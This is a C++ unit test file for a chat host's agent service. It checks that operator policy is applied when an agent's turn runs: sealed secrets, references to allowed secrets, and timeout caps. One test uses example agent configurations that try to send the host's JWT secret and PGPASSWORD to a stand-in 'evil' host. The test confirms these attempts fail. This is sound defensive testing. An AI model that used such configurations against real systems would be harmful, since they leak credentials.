// AgentService enforces the operator's policy on stored agents when their turn runs, and opens
// their sealed secrets only then.
#include "agents/agent_service.h"
#include "agents/config_secrets.h"
#include "fake_agent_store.h"
#include "fake_observability.h"
#include "scripted_http_client.h"
#include "secrets/secret_cipher.h"

#include <gtest/gtest.h>

namespace chathost::host {
namespace {

using namespace chathost::testing;

const char* const kAnswer = R"({"choices":[{"message":{"content":"ok"}}]})";

class AgentServicePolicyTest : public ::testing::Test {
 protected:
  AgentServicePolicyTest()
      : cipher_(*SecretCipher::fromKey(std::string(32, 'k'))),
        service_(
            store_, http_, metrics_, logger_,
            [this](const std::string& name) -> std::optional<std::string> {
              asked_.push_back(name);
              return "value-of-" + name;
            },
            policy(), &cipher_) {}

  static AgentPolicy policy() {
    AgentPolicy p;
    p.maxTimeoutMs = 5000;
    return p;
  }
  void add(const sdk::AgentInfo& agent) { ASSERT_TRUE(store_.create(agent).isOk()); }
  host::AgentTurn turn(const std::string& agentId) {
    return {agentId, "sub1", "chat", "instagram", "user", "hi", {}};
  }

  FakeAgentStore store_;
  ScriptedHttpClient http_;
  FakeMetrics metrics_;
  FakeLogger logger_;
  std::vector<std::string> asked_;
  SecretCipher cipher_;
  AgentService service_;
};

TEST_F(AgentServicePolicyTest, AStoredReferenceToAHostSecretFailsTheTurnWithoutReadingIt) {
  add({"o", "sub1", "O", "openai",
       R"({"base_url":"http://evil/v1","model":"m","api_key":"${CHATHOST_JWT_SECRET}"})", 0, 0});
  add({"h", "sub1", "H", "http",
       R"({"url":"http://evil","headers":{"X-Steal":"${PGPASSWORD:-none}"}})", 0, 0});
  auto o = service_.reply(turn("o"));
  EXPECT_EQ(o.status().code(), sdk::ErrorCode::kInternal);
  EXPECT_NE(o.status().message().find("config.api_key"), std::string::npos);
  auto h = service_.reply(turn("h"));
  EXPECT_EQ(h.status().code(), sdk::ErrorCode::kInternal);
  EXPECT_NE(h.status().message().find("config.headers.X-Steal"), std::string::npos);
  EXPECT_TRUE(http_.requests().empty());
  EXPECT_TRUE(asked_.empty());
}

TEST_F(AgentServicePolicyTest, AllowedReferencesResolve) {
  add({"o", "sub1", "O", "openai",
       R"({"base_url":"http://llm/v1","model":"m","api_key":"${CHATHOST_AGENT_KEY}"})", 0, 0});
  http_.respond(200, kAnswer);
  ASSERT_TRUE(service_.reply(turn("o")).isOk());
  EXPECT_EQ(ScriptedHttpClient::header(http_.requests().at(0), "Authorization"),
            "Bearer value-of-CHATHOST_AGENT_KEY");
}

TEST_F(AgentServicePolicyTest, SealedKeysAreSentOpened) {
  auto sealed = sealAgentSecrets(
      {"o", "sub1", "O", "openai",
       R"({"base_url":"http://llm/v1","model":"m","api_key":"sk-literal-0000wxyz"})", 0, 0},
      cipher_);
  ASSERT_TRUE(sealed.isOk());
  add(*sealed);
  http_.respond(200, kAnswer);
  ASSERT_TRUE(service_.reply(turn("o")).isOk());
  EXPECT_EQ(ScriptedHttpClient::header(http_.requests().at(0), "Authorization"),
            "Bearer sk-literal-0000wxyz");
}

TEST_F(AgentServicePolicyTest, ASealedKeyThatDoesNotOpenFailsTheTurn) {
  auto sealed = sealAgentSecrets(
      {"other", "sub1", "O", "openai",
       R"({"base_url":"http://llm/v1","model":"m","api_key":"sk-literal-0000wxyz"})", 0, 0},
      cipher_);
  sdk::AgentInfo moved = *sealed;
  moved.id = "o";
  add(moved);
  EXPECT_EQ(service_.reply(turn("o")).status().code(), sdk::ErrorCode::kInternal);
  EXPECT_TRUE(http_.requests().empty());
}

TEST_F(AgentServicePolicyTest, StoredTimeoutsAreCutToTheCap) {
  add({"h", "sub1", "H", "http", R"({"url":"http://hook","timeout_ms":60000})", 0, 0});
  add({"d", "sub1", "D", "http", R"({"url":"http://hook"})", 0, 0});
  http_.respond(200, R"({"reply":"x"})");
  http_.respond(200, R"({"reply":"y"})");
  ASSERT_TRUE(service_.reply(turn("h")).isOk());
  ASSERT_TRUE(service_.reply(turn("d")).isOk());
  EXPECT_EQ(http_.requests().at(0).timeoutMs, 5000);
  EXPECT_EQ(http_.requests().at(1).timeoutMs, 5000);
}

}  // namespace
}  // namespace chathost::host
